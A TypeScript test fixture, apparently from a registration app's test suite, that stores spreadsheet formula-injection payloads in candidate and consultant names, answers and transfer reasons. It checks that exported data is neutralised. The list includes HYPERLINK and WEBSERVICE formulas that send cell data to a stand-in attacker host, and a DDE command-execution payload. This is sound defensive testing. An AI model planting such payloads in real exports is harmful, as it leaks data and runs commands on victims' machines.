import { transferRegistration } from '#features/reviews/contract/transfer.ts'
import { sql } from '#server/database/database.ts'
import { branchNamed, someConsultant } from '../../people/consultants.ts'
import { device } from '../../registrations/device.ts'
import { someRegistration } from '../../registrations/some-registration.ts'
import type { TestServer } from '../../test-server.ts'

/** Texts that a spreadsheet would compute as formulas if a cell contained them as typed. */
export const FORMULAS: readonly string[] = [
  '=HYPERLINK("https://evil.example?x="&A1,"me")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '=1+1',
  '=WEBSERVICE("https://evil.example")',
]

/**
 * Makes a registration with the formula as the name of its candidate and of its consultant, as an answer and as the reason of a transfer. Returns the
 * consultant and the id.
 */
export async function createRegistrationWithFormula(server: TestServer, formula: string) {
  const desk = await someConsultant(server, {
    branches: ['Leeds Registrations', 'Hull Registrations'],
    firstName: formula,
    lastName: formula,
  })
  const person = await server.signUpCandidate()
  const id = await someRegistration(server, person.id)
  const typed = formula.trim()
  await device(person, id).save({ actionId: 'preferred-name', value: typed })
  await server.db.run(
    sql`update candidates set first_name = ${formula}, last_name = ${formula} where id = ${person.id}`,
  )
  await desk.call(transferRegistration, {
    params: { id },
    body: { branchId: await branchNamed(server, 'Hull Registrations'), reason: typed },
  })
  return { desk, id, typed }
}
